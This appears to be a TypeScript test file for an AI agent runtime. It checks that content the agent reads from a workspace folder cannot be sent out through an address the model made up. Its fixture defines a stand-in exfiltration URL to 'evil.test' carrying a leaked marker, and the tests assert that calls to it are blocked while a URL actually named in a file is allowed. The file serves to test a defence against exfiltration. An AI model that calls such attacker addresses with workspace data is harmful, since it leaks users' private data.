/** Data that an agent read in a folder cannot leave it through an address that a model made up. */

import {mkdtempSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';

import {afterEach, beforeEach, expect, test} from 'vitest';
import {z} from 'zod';

import {createFunctionModel, createRuntime} from '../../actors/index.ts';
import type {TaskResult} from '../../machines/domain/result.ts';
import {defineTool} from '../../tools/index.ts';
import {answer, reply} from '../support/scenario.ts';

const made = 'https://evil.test/?leak=MARKER';
const named = 'https://docs.test/guide';
let folder: string;

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'quorate-world-'));
  writeFileSync(join(folder, 'README.md'), `# MARKER\nSee ${named} for more.\n`);
});

afterEach(() => rmSync(folder, {recursive: true}));

/** Runs a plan of one task whose worker calls `visit` once, if it is called at all. */
async function visiting(
  task: object,
  url: string,
): Promise<{visited: readonly string[]; tasks: readonly TaskResult[]}> {
  const visited: string[] = [];
  const visit = defineTool({
    name: 'visit',
    description: 'Fetches a page.',
    parameters: z.strictObject({url: z.string()}),
    risk: 'low',
    repeatability: 'repeatable',
    reaches: 'network',
    quotes: true,
    run: async (args) => {
      visited.push(args.url);
      return await Promise.resolve({kind: 'succeeded', text: 'a page'});
    },
  });
  const runtime = createRuntime({
    config: {
      agent: {
        exploration_model: 't/w',
        decision_model: 't/w',
        review_models: ['policy/safety'],
        max_replans: 0,
        hil_mode: 'auto_reject',
      },
      quorum: {screen: []},
    },
    models: [
      createFunctionModel('t/w', ({purpose, transcript}) => {
        if (purpose === 'plan') {
          const tasks = [{id: 'a', description: 'Look it up', ...task}];
          return reply('create_plan', {objective: 'o', reasoning: 'r', tasks});
        }
        if (purpose === 'evaluate')
          return reply('evaluate_result', {successful: true, problems: []});
        const isFirst = transcript.messages.length === 1;
        return purpose === 'act' && isFirst ? reply('visit', {url}) : answer('done');
      }),
    ],
    tools: [visit],
    env: {},
  });
  const {tasks = []} = await runtime.agent('Look it up', {workspace: folder}).result;
  await runtime.close();
  return {visited, tasks};
}

test.each([
  ['a task with tool and arguments', {tool: 'visit', args: {url: made}}],
  ['the first call of a worker', {}],
])(
  '%s must not use a made-up address, because the content of the folder is in the prompt',
  async (_, task) => {
    const {visited, tasks} = await visiting(task, made);
    expect(visited).toEqual([]);
    expect(JSON.stringify(tasks.map(({evidence}) => evidence))).not.toContain('MARKER');
  },
);

test.each([
  ['a task with tool and arguments', {tool: 'visit', args: {url: named}}],
  ['the first call of a worker', {}],
])('%s may fetch an address from a file of the folder', async (_, task) => {
  const {visited, tasks} = await visiting(task, named);
  expect(visited).toEqual([named]);
  expect(tasks).toMatchObject([{status: 'succeeded'}]);
});
